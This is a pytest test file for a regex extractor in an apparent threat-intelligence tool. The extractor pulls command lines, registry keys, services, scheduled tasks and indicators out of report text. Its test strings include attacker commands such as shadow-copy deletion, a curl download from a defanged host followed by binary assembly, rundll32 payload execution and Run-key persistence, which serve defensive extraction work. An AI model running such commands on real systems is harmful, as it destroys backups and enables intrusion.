import pytest

from ctiforge.extract.answering.extraction import Source
from ctiforge.extract.answering.regex_floor import RegexFloor
from ctiforge.records.observable import TYPES


def found(type_: str, text: str) -> list[str]:
    return [item.value for item in RegexFloor().extract(text, (type_,)).observables]


FOUND = [
    ("cmdline", "The actor ran net group \"Domain Admins\" /domain and left.", ['net group "Domain Admins" /domain']),
    ("cmdline", "whoami /all\nnltest /domain_trusts", ["whoami /all", "nltest /domain_trusts"]),
    ("cmdline", "They used `vssadmin delete shadows /all /quiet` next.", ["vssadmin delete shadows /all /quiet"]),
    ("cmdline", "cmd.exe /c ping localhost & tasklist /svc", ["cmd.exe /c ping localhost & tasklist /svc"]),
    ("cmdline", "dir > t0.log tasklist >> t0.log del t0.log", ["dir > t0.log", "tasklist >> t0.log", "del t0.log"]),
    ("cmdline", "C:\\Temp\\gt.exe -m:scan -d:list.txt was seen", ["C:\\Temp\\gt.exe -m:scan -d:list.txt"]),
    ("cmdline", "rundll32 c:\\programdata\\a.jpg,init.", ["rundll32 c:\\programdata\\a.jpg,init"]),
    ("registry", "under HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Run, the", [
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Run"]),
    ("registry", "HKCU:\\Software\\Evil.", ["HKCU:\\Software\\Evil"]),
    ("services", "It runs sc create EvilSvc binPath= C:\\x.exe", ["EvilSvc"]),
    ("services", "a service named “WebCheck” and the 'OtherSvc' service", ["WebCheck", "OtherSvc"]),
    ("scheduled_tasks", "schtasks /create /tn \"EdgeTask UI\" /f", ["EdgeTask UI"]),
    ("scheduled_tasks", "created a scheduled task named DotNetUpdate to", ["DotNetUpdate"]),
    ("process_lineage", "EarthTime.exe spawned cmd.exe with no arguments", ["EarthTime.exe -> cmd.exe"]),
    ("process_lineage", "cmd.exe was spawned by w3wp.exe", ["w3wp.exe -> cmd.exe"]),
    ("services", "Service installed: CoreAgent; registers `x.service` and the service C:\\a\\b.exe", [
        "CoreAgent", "C:\\a\\b.exe"]),
    ("scheduled_tasks", "Task name: \\Microsoft\\Windows\\Sync and the task UpdateCheck", [
        "\\Microsoft\\Windows\\Sync", "UpdateCheck"]),
    ("process_lineage", "Parent: a.exe, child: b.exe. The log shows c.exe as the parent of d.exe", [
        "a.exe -> b.exe", "c.exe -> d.exe"]),
    ("process_lineage", "a.exe → b.exe → c.exe", ["a.exe -> b.exe", "b.exe -> c.exe"]),
    ("hunt_queries", "Hunt:\nDeviceProcessEvents\n| where FileName == 'a'\n\nEnd", [
        "DeviceProcessEvents\n| where FileName == 'a'"]),
    ("hunt_queries", "index=win EventCode=4688 | stats count by host\n\nNext", [
        "index=win EventCode=4688 | stats count by host"]),
    ("network_indicators", "to hxxps://evil[.]com/a.php and 10.1.2[.]3.", ["hxxps://evil[.]com/a.php", "10.1.2[.]3"]),
]  # fmt: skip
RUN_TOGETHER = [
    ("curl -o a.txt <hxxp://1.2.3[.]4/a.txt> copy /b a.txt+b.txt c.exe", [
        "curl -o a.txt <hxxp://1.2.3[.]4/a.txt>", "copy /b a.txt+b.txt c.exe"]),
    ("wmic logicaldisk get name >> C:\\a\\d.log cd C:\\a", ["wmic logicaldisk get name >> C:\\a\\d.log"]),
    ("tool.exe -k \"a b\" whoami /all", ["tool.exe -k \"a b\"", "whoami /all"]),
]  # fmt: skip
GLUED = [
    ("rundll32 C:\\a.dll,#1 Figure 3: the export", ["rundll32 C:\\a.dll,#1"]),
    ("\"C:\\Program Files\\T\\t.exe\" -x -v c:\\s\\ Lateral Movement", [
        "\"C:\\Program Files\\T\\t.exe\" -x -v c:\\s\\"]),
    ("vssadmin list shadows /all Table 12. Commands of the actor", ["vssadmin list shadows /all"]),
    ("They ran nltest /dclist: The answer", ["nltest /dclist:"]),
    ("nltest /dclist:\nnext", ["nltest /dclist:"]),
    ("They ran ipconfig /all: The answer", ["ipconfig /all"]),
]  # fmt: skip
QUOTED = [
    ("`evil.exe && whoami /all` was run", ["whoami /all"]),
    ("`x whoami /all`.", ["whoami /all"]),
    ('powershell -c "Write-Host `"a`""', ['powershell -c "Write-Host `"a`""']),
    ("It ran `cmd /c ^\n  ping.exe -n 5 b` then", ["cmd /c ^\n  ping.exe -n 5 b"]),
    ("powershell -nop `\n  -file C:\\a.ps1\nThe end", ["powershell -nop `\n  -file C:\\a.ps1"]),
]
KQL = [
    "let names = dynamic(['a', 'b']);\nlet days = 7d;\nDeviceFileEvents\n| where FileName in (names)",
    "// what it drops\nlet t = DeviceFileEvents;\nt\n| where FileName == 'a'\n// and by whom\n| project DeviceName",
    "_Im_Dns(starttime=ago(1d)) | where DnsQuery has 'evil'",
    "imProcessCreate | where Process has 'a.exe'",
    "event_simpleName=ProcessRollup2 FileName=a.exe",
]
KEYS = [
    ("reg add HKCU\\A\\Run /v Updater /t REG_SZ", ["HKCU\\A\\Run\\Updater"]),
    ("reg.exe add \"HKLM\\A\\Windows NT\\Run\" /t REG_SZ /f /v \"My Key\" /d a.exe", [
        "HKLM\\A\\Windows NT\\Run\\My Key"]),
    ("Set-ItemProperty -Path 'HKLM:\\A\\B' -Name 'Off' -Value 1", ["HKLM:\\A\\B\\Off"]),
    ("reg query HKLM\\A\\B /s; other /v X", ["HKLM\\A\\B"]),
    ("the key HKLM\\A\\B /v X", ["HKLM\\A\\B"]),
]  # fmt: skip
SERVICES = [
    ('New-Service -BinaryPathName C:\\x.exe -Name "My Svc"', ["My Svc"]),
    ("Stop-Service -Force -Name 'VSS'; New-Service Evil", ["VSS", "Evil"]),
    ("Start-Service -Name Spooler", ["Spooler"]),
]
FOUND += [("cmdline", *each) for each in (*RUN_TOGETHER, *GLUED, *QUOTED)]
FOUND += [("hunt_queries", f"Hunt for it:\n{query}\n\nNext", [query]) for query in KQL]
FOUND += [("hunt_queries", f"Hunt: {quote}{KQL[3]}{quote} in most places.", [KQL[3]]) for quote in "`'"]
FOUND += [("registry", *each) for each in KEYS] + [("services", *each) for each in SERVICES]


@pytest.mark.parametrize(("type_", "text", "values"), FOUND)
def test_found(type_: str, text: str, values: list[str]) -> None:
    assert found(type_, text) == values


NOT_FOUND = [
    ("cmdline", "The net result was that PowerShell is a tool. Copy the file. PowerShell - T1059.001"),
    ("cmdline", "We observed tasklist and whoami in use."),
    ("registry", "the HKLM hive"),
    ("services", "The service was stopped. A new service is offered. Get-Service lists them."),
    ("cmdline", "They went there: cd C:\\Users"),
    ("scheduled_tasks", "The scheduled task was removed."),
    ("process_lineage", "cmd.exe and powershell.exe were seen"),
    ("hunt_queries", "The event index was searched for title: and condition."),
    ("network_indicators", "see https://example.com for version 1.2.3"),
]


@pytest.mark.parametrize(("type_", "text"), NOT_FOUND)
def test_prose_is_left_alone(type_: str, text: str) -> None:
    assert found(type_, text) == []


def test_a_sigma_rule_is_one_query() -> None:
    rule = (
        "title: Suspicious child status: test logsource: product: windows detection: selection: Image|endswith: "
        "'\\cmd.exe' condition: selection level: high tags: - attack.execution - attack.t1059"
    )

    assert found("hunt_queries", f"Our rule: {rule} After it more prose.") == [rule]


def test_only_the_types_asked_for_are_given_each_value_once_in_order() -> None:
    text = "net user /domain; then HKLM\\A\\B and NET  USER /domain, and whoami /all"
    extraction = RegexFloor().extract(text, ("registry", "cmdline"), source_url="https://x")

    assert [item.value for item in extraction.observables] == ["net user /domain", "HKLM\\A\\B", "whoami /all"]
    assert (extraction.source_url, extraction.requested_types) == ("https://x", ("registry", "cmdline"))
    assert RegexFloor().extract(text).requested_types == TYPES


def test_an_unknown_type_finds_nothing() -> None:
    assert RegexFloor().extract("net user /domain", ("event_ids",)).observables == ()


@pytest.mark.parametrize(
    ("type_", "text", "platform"),
    [
        ("cmdline", "whoami /all", "Windows"),
        ("cmdline", "curl http://x.com/a -o /tmp/a/b", "Linux"),
        ("cmdline", "osascript -e 'display dialog'", "MacOS"),
        ("network_indicators", "evil[.]com", None),
    ],
)
def test_platform_by_rule(type_: str, text: str, platform: str | None) -> None:
    assert [item.platform for item in RegexFloor().extract(text, (type_,)).observables] == [platform]


def test_many_texts_in_order() -> None:
    sources = [Source("whoami /all", ("cmdline",)), Source("nothing"), Source("ipconfig /all", ("cmdline",))]

    counts = [len(extraction.observables) for extraction in RegexFloor().extract_many(sources)]
    assert counts == [1, 0, 1]


@pytest.mark.parametrize(
    "piece",
    [
        "\\",
        "a.",
        'x.exe "',
        "net user ",
        "a[.]",
        "title: condition: ",
        "HKLM\\a b",
        " ",
        "let a=",
        "// a\n",
        "cmd /c ^\n",
        "reg add HKLM\\a\\b /t x ",
        "New-Service -a ",
        "`cmd -a",
    ],
)
def test_hostile_text_takes_no_long_time(piece: str) -> None:
    text = piece * (20_000 // len(piece))

    extraction = RegexFloor().extract(text)
    assert extraction.seconds < 20
